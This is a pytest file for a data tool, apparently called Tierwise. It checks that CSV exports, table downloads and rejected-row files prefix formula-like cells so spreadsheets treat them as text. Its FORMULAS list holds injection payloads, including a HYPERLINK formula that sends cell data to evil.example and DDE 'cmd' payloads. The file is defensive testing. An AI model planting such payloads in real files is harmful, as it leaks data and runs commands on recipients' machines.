"""Finding 3 of issue 12: no CSV Tierwise writes opens as a formula in a spreadsheet (OWASP: prefix with ')."""

import csv

import pandas as pd
import pytest

from tools.catalog import call_tool
from tools.context import ToolContext
from tools.csv_cells import FORMULA_START, neutralise, neutralise_frame
from tools.dataset import Dataset
from tools.report import export_scores
from tools.results import Table
from tools.workspace import Workspace

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "＝1+1"]


def cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def formula_cells(path) -> list[str]:
    """Cells a spreadsheet would run: starting like a formula and not a plain number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
            return True
        except ValueError:
            return False

    return [c for c in cells(path) if c.startswith(FORMULA_START) and not number(c)]


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """A small shop whose names, cities, products, categories and one customer id are formulas, plus a row the
    loader rejects (a bad date) carrying one."""
    from tools.demo import generate_demo
    from tools.loading import load_dataset

    root = tmp_path_factory.mktemp("formulas")
    generate_demo(root / "demo", customers=250, seed=11)
    tx = pd.read_csv(root / "demo" / "transactions.csv", dtype=str)
    cu = pd.read_csv(root / "demo" / "customers.csv", dtype=str)
    for i, formula in enumerate(FORMULAS):
        cu.loc[i, "name"] = formula
        cu.loc[i + 10, "city"] = formula
        tx.loc[i, "product"] = formula
        tx.loc[i + 20, "category"] = formula
    old_id, new_id = cu.loc[30, "customer_id"], "=1+2"
    cu.loc[30, "customer_id"] = new_id
    tx.loc[tx["customer_id"] == old_id, "customer_id"] = new_id
    bad = tx.iloc[[0]].copy()
    bad["order_date"], bad["product"] = "not a date", FORMULAS[1]
    tx = pd.concat([tx, bad], ignore_index=True)
    tx.to_parquet(root / "transactions.parquet")
    cu.to_parquet(root / "customers.parquet")
    home = root / "home"
    load_dataset(Workspace(home), root / "transactions.parquet", customers=root / "customers.parquet",
                 rejects_path=root / "rejected.csv")
    return home, root


def test_neutralise_prefixes_formula_text_and_leaves_numbers_alone():
    assert [neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert neutralise("Anna") == "Anna" and neutralise(-5) == -5 and neutralise(None) is None
    frame = neutralise_frame(pd.DataFrame({"=name": ["=1", "ok"], "amount": [-5.0, 2.0]}))
    assert list(frame.columns) == ["'=name", "amount"] and frame["'=name"].tolist() == ["'=1", "ok"]
    assert frame["amount"].tolist() == [-5.0, 2.0]


def test_csv_formula_injection_is_neutralised_in_audience_exports(shop):
    home, _ = shop
    dataset = Dataset(Workspace(home))
    ctx = ToolContext(snapshot=dataset.snapshot(), exports_dir=dataset.exports_dir, role="marketer")
    result = call_tool(ctx, "export_audience", {})
    written = cells(result.files[0])
    assert formula_cells(result.files[0]) == []
    assert "'" + FORMULAS[0] in written or "'" + FORMULAS[2] in written  # the names are there, as text
    assert "'=1+2" in written


def test_csv_formula_injection_is_neutralised_in_scores_out_and_parquet_keeps_the_data(shop, tmp_path):
    home, _ = shop
    snap = Dataset(Workspace(home)).snapshot()
    export_scores(snap, tmp_path / "scores.csv")
    assert formula_cells(tmp_path / "scores.csv") == []
    assert "'=1+2" in cells(tmp_path / "scores.csv")
    export_scores(snap, tmp_path / "scores.parquet")
    assert "=1+2" in pd.read_parquet(tmp_path / "scores.parquet")["customer_id"].tolist()


def test_csv_formula_injection_is_neutralised_in_the_web_table_downloads(tmp_path):
    from ui.render import write_table_csv

    table = Table(title="Top", columns=["customer_id", "name", "value"],
                  rows=[["C1", f, -12.5] for f in FORMULAS])
    path = write_table_csv(table, tmp_path, "top")
    assert formula_cells(path) == []
    assert "-12.5" in cells(path)


def test_csv_formula_injection_is_neutralised_in_the_rejected_rows_file(shop):
    _, root = shop
    written = cells(root / "rejected.csv")
    assert "unparseable date" in written and any("=cmd" in c for c in written)  # the raw row, as a JSON text
    assert formula_cells(root / "rejected.csv") == []
